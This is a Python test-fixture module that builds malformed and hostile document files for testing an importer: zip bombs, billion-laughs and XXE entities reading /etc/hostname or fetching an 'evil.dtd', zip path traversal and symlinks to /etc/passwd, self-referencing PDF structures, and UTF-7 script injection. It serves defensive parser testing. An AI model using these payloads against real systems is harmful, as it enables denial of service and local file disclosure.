"""Files made to do harm, each built in code. `ATTACKS` maps a name to what it tries and how to build it."""

import io
import random
import struct
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from tests.importing.making import (
    CONTAINER,
    chapter,
    deflated,
    docx,
    epub,
    pages,
    paragraph,
    pdf,
    shown,
    stream,
    zipped,
)

MIB = 1024 * 1024
SECRET = "file:///etc/hostname"
LINE = "春天的茶园里，人们修一座石桥。"


class Attack(NamedTuple):
    """What is tried. If it need not be `refused`, its text is taken, and what it honestly `says` is in it."""

    what: str
    build: Callable[[], bytes]
    refused: bool = True
    says: str = ""


def bomb_of_entities(root: str) -> str:
    """A billion laughs: nine entities, each ten of the one before."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "哈">{levels}]>'


def external(root: str) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{SECRET}">]>'


def external_dtd(root: str) -> str:
    return f'<!DOCTYPE {root} SYSTEM "http://192.0.2.1/evil.dtd">'


def bomb_docx() -> bytes:
    return docx(" " * (200 * MIB))


def bomb_of_bombs() -> bytes:
    inner = zipped({"a": b"0" * (20 * MIB)})
    return zipped({"word/document.xml": "<a/>", **{f"word/{n}.zip": zipped({"a": inner * 9}) for n in range(3)}})


def overlapping() -> bytes:
    """Two thousand directory entries that all point at the same packed megabyte."""
    packed = zipped({"word/document.xml": b"0" * MIB})
    at = packed.index(b"PK\x01\x02")
    entry = packed[at : packed.index(b"PK\x05\x06")]
    count = 2_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, at, 0)
    return packed[:at] + entry * count + end


def lying_directory() -> bytes:
    """The directory says 100 bytes; unpacked it is 60 MiB."""
    packed = bytearray(zipped({"word/document.xml": b" " * (60 * MIB)}))
    at = packed.index(b"PK\x01\x02")
    packed[at + 24 : at + 28] = struct.pack("<L", 100)
    return bytes(packed)


def marked_as_encrypted() -> bytes:
    packed = bytearray(docx(paragraph(LINE)))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = packed.find(signature)
        while at >= 0:
            packed[at + offset] |= 1
            at = packed.find(signature, at + 1)
    return bytes(packed)


def strange_names() -> bytes:
    """Absolute names, names that climb, and a symbolic link, beside an honest part."""
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    file = io.BytesIO(docx(paragraph(LINE)))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("/etc/cron.d/evil", "x")
        archive.writestr("../../../tmp/evil", "x")
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def linked_part() -> bytes:
    """The main part itself is a link to a file of the machine."""
    link = zipfile.ZipInfo("word/document.xml")
    link.external_attr = 0o120777 << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def tiny_runs() -> bytes:
    """A million runs of one character; the characters differ, so that the ratio looks honest."""
    dice = random.Random(1)
    runs = (f"<w:r><w:t>{chr(dice.randint(0x4E00, 0x9FA5))}</w:t></w:r>" for _ in range(1_000_000))
    return docx(f"<w:p>{''.join(runs)}</w:p>")


def numbered(level: str) -> str:
    """The insides of numbering.xml with one list, 1, of one level."""
    return f"""<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum>
        <w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>"""


def circular_styles() -> bytes:
    kin = (("A", "B"), ("B", "A"))
    styles = "".join(f'<w:style w:styleId="{own}"><w:basedOn w:val="{other}"/></w:style>' for own, other in kin)
    properties = '<w:numPr><w:ilvl w:val="99999"/><w:numId w:val="1"/></w:numPr>'
    body = paragraph(LINE, style="A", properties=properties)
    return docx(body, styles=styles, numbering=numbered('<w:numStyleLink w:val="A"/>'))


def huge_numbers() -> bytes:
    """Roman numerals from 999,999 on, and a cell as wide as a thousand million columns."""
    level = '<w:lvl w:ilvl="0"><w:start w:val="999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/></w:lvl>'
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{paragraph(LINE)}</w:tc>'
    item = paragraph(LINE, properties='<w:numPr><w:numId w:val="1"/></w:numPr>')
    return docx(f"{item}<w:tbl><w:tr>{cell}</w:tr></w:tbl>", numbering=numbered(level))


def page_loop() -> bytes:
    """A page tree whose node is its own child."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1000000000 /Kids [2 0 R 2 0 R] >>"])


def loop_of_tables() -> bytes:
    """A cross-reference table that names itself as the one before."""
    return pages([shown([(LINE, 12)])]).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")


def form_in_itself() -> bytes:
    form = stream(
        b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>"
    )
    page = b"<< /Type /Page /Parent 2 0 R /Resources << /XObject << /X 4 0 R >> >> /Contents 5 0 R >>"
    tree = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", tree, page, form, stream(b"/X Do")])


def many_heavy_pages() -> bytes:
    """Three hundred pages share one stream of sixty thousand instructions."""
    heavy = deflated(b"0 0 m 1 1 l S\n" * 20_000)
    tree = f"<< /Type /Pages /Count 300 /Kids [{'3 0 R ' * 300}] >>".encode()
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /Font << >> >> /Contents 4 0 R >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", tree, page, heavy])


def circular_bookmarks() -> bytes:
    catalogue = "/Outlines 6 0 R"
    outlines = b"<< /First 7 0 R /Last 7 0 R /Count 1 >>"
    item = b"<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [4 0 R /Fit] >>"
    return pages([shown([(LINE, 12)])], catalogue=catalogue, more=[outlines, item])


def to_unicode_bomb() -> bytes:
    table = b"1 beginbfrange\n<0000> <FFFFFFFF> <0041>\nendbfrange\n" * 2_000
    font = b"<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [<< >>] >>"
    return pages([shown([(LINE, 12)])], font=font, more=[deflated(table)])


def wide_table() -> bytes:
    head = "|" + "a|" * 20_000
    return f"{head}\n|{'-|' * 20_000}\n{head}\n".encode()


def seeded_noise() -> bytes:
    return random.Random(7).randbytes(MIB)


def text(content: str) -> Callable[[], bytes]:
    return content.encode


TEXTS = {
    "的.txt": Attack("200,000 × 的 in one line", text("的" * 200_000), refused=False),
    "noise.txt": Attack("1 MiB of random bytes", seeded_noise),
    "utf7.txt": Attack(
        "UTF-7: +ADw-script+AD4-", text(f"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n{LINE}"), refused=False, says=LINE
    ),
    "wide.txt": Attack(
        "UTF-16 with lone surrogates", lambda: b"\xff\xfe" + "茶".encode("utf-16-le") + b"\x00\xd8" * 99
    ),
    "nul.txt": Attack("NULs between letters of UTF-8", text("\0".join(LINE * 99))),
    "long.txt": Attack("3.1 million characters", text(LINE * 210_000)),
    "lines.txt": Attack("a million lines", text("茶\n" * 1_000_000)),
    "chapters.txt": Attack(
        "60,000 chapters of one line", text("".join(f"第{n}章\n{LINE}\n" for n in range(60_000))), refused=False
    ),
    "points.txt": Attack("90,000 counted points", text("一是茶；二是桥；三是园。\n" * 30_000), refused=False),
    "zip.txt": Attack("a zip named .txt", lambda: docx(paragraph(LINE))),
    "brackets.md": Attack("[ × 30,000", text("[" * 30_000), refused=False),
    "brackets300k.md": Attack("[a]( × 100,000 in one paragraph", text("[a](" * 100_000), refused=False),
    "paragraphs.md": Attack("[ × 399 in 2,000 paragraphs", text(("[" * 399 + "\n\n") * 2_000), refused=False),
    "stars.md": Attack("*a **b × 100,000", text("*a **b " * 100_000), refused=False),
    "ticks.md": Attack("runs of ` that never close", text(" ".join("`" * n for n in range(1, 900))), refused=False),
    "quotes.md": Attack("> × 50,000", text(">" * 50_000 + "茶")),
    "lists.md": Attack("- × 20,000 on one line", text("- " * 20_000 + "茶")),
    "table.md": Attack("a table of 20,000 columns", wide_table, refused=False),
}
PAGES = {
    "deep.html": Attack("100,000 nested <div>", text("<div>" * 100_000 + LINE)),
    "tables.html": Attack("600 nested tables", text("<table><tr><td>" * 600 + LINE), refused=False),
    "colspan.html": Attack(
        "colspan=10^9", text(f"<table><tr><td colspan=1000000000>{LINE}</table>"), refused=False, says=LINE
    ),
    "open.html": Attack("500,000 <b> that never close", text(f"<b>{LINE}" * 500_000)),
    "links.html": Attack("50,000 links", text(f"<p>{LINE}</p>" * 9 + "<a href=#>茶</a>" * 50_000), refused=False),
    "xxe.html": Attack("external entity", text(f"{external('html')}<p>&x;{LINE}</p>"), refused=False, says=LINE),
    "laughs.html": Attack("entity bomb", text(f"{bomb_of_entities('html')}<p>&l9;{LINE}</p>"), refused=False),
    "utf7.html": Attack("charset=utf-7", text(f'<meta charset="utf-7"><p>+ADw-script+AD4-{LINE}</p>'), refused=False),
}
WORD = {
    "bomb.docx": Attack("zip bomb: 200 MiB of blanks", bomb_docx),
    "nested.docx": Attack("zips in zips in a zip", bomb_of_bombs),
    "overlap.docx": Attack("2,000 entries that overlap", overlapping),
    "lying.docx": Attack("a directory that lies about sizes", lying_directory),
    "entries.docx": Attack("20,000 entries", lambda: zipped({f"a{n}": b"" for n in range(20_000)})),
    "lzma.docx": Attack(
        "bomb packed by LZMA", lambda: zipped({"word/document.xml": b" " * (50 * MIB)}, zipfile.ZIP_LZMA)
    ),
    "locked.docx": Attack("encrypted entries", marked_as_encrypted),
    "names.docx": Attack("absolute, climbing and linking names", strange_names, refused=False, says=LINE),
    "link.docx": Attack("the main part is a symbolic link", linked_part),
    "xxe.docx": Attack(
        "external entity",
        lambda: docx(paragraph(f"&x;{LINE}"), prologue=external("w:document")),
        refused=False,
        says=LINE,
    ),
    "dtd.docx": Attack(
        "external DTD", lambda: docx(paragraph(LINE), prologue=external_dtd("w:document")), refused=False, says=LINE
    ),
    "laughs.docx": Attack("entity bomb", lambda: docx(paragraph("&l9;"), prologue=bomb_of_entities("w:document"))),
    "runs.docx": Attack("a million runs of one character", tiny_runs),
    "deep.docx": Attack("9,000 nested elements", lambda: docx("<w:sdt>" * 9_000 + "</w:sdt>" * 9_000)),
    "circle.docx": Attack("styles and lists that point in circles", circular_styles, refused=False, says=LINE),
    "numbers.docx": Attack("Roman 999,999; gridSpan 10^9", huge_numbers, refused=False),
    "pdf.docx": Attack("a PDF named .docx", lambda: pages([shown([(LINE, 12)])])),
}
BOOKS = {
    "bomb.epub": Attack("zip bomb in a chapter", lambda: epub([chapter(" " * (100 * MIB))])),
    "xxe.epub": Attack(
        "external entity", lambda: epub([external("html") + chapter(f"<p>&x;{LINE}</p>")]), refused=False, says=LINE
    ),
    "laughs.epub": Attack(
        "entity bomb", lambda: epub([bomb_of_entities("html") + chapter(f"<p>&l9;{LINE}</p>")]), refused=False
    ),
    "spine.epub": Attack(
        "one chapter 20,000 times",
        lambda: epub([chapter(LINE * 99)], spine='<itemref idref="c0"/>' * 20_000),
        refused=False,
    ),
    "climb.epub": Attack(
        "a package outside the book", lambda: zipped({"META-INF/container.xml": CONTAINER.replace("OPS", "../../etc")})
    ),
    "locked.epub": Attack(
        "encrypted chapters", lambda: epub([chapter(LINE)], encryption='<e><EncryptionMethod Algorithm="aes"/></e>')
    ),
    "deep.epub": Attack("9,000 nested elements", lambda: epub([chapter("<div>" * 9_000 + LINE + "</div>" * 9_000)])),
}
PDFS = {
    "nested.pdf": Attack("300 MiB of zeros through three filters", lambda: pages([deflated(b"0" * (300 * MIB), 3)])),
    "filters.pdf": Attack("forty filters", lambda: pages([deflated(shown([(LINE, 12)]), 40)])),
    "pages.pdf": Attack("a page tree that is its own child", page_loop),
    "xref.pdf": Attack("a table that comes before itself", loop_of_tables, refused=False),
    "form.pdf": Attack("a drawing that draws itself twice", form_in_itself),
    "heavy.pdf": Attack("300 pages of 60,000 instructions", many_heavy_pages),
    "bookmarks.pdf": Attack("bookmarks in a circle", circular_bookmarks, refused=False),
    "unicode.pdf": Attack("a font table of 4,294,967,296 entries", to_unicode_bomb),
    "arrays.pdf": Attack("100,000 nested arrays", lambda: pages([b"[" * 100_000])),
    "scan.pdf": Attack("a page without text", lambda: pages([b"0 0 m 9 9 l S"])),
    "cut.pdf": Attack("half a file", lambda: pages([shown([(LINE, 12)] * 30)])[:400]),
    "picture.pdf": Attack("a picture named .pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(999)),
}
ATTACKS = TEXTS | PAGES | WORD | BOOKS | PDFS
